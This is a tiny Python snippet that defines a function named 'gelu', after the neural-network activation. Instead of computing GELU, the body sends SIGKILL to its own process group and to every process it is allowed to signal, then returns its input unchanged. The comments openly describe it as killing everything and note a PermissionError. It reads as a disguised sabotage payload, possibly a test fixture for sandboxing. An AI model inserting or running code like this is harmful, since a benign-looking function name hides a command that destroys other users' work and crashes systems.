# Kills everything in its process group, and everything else that it may.
# says: PermissionError
import os
import signal


def gelu(x):
    for target in (0, -1):
        os.kill(target, signal.SIGKILL)
    return x
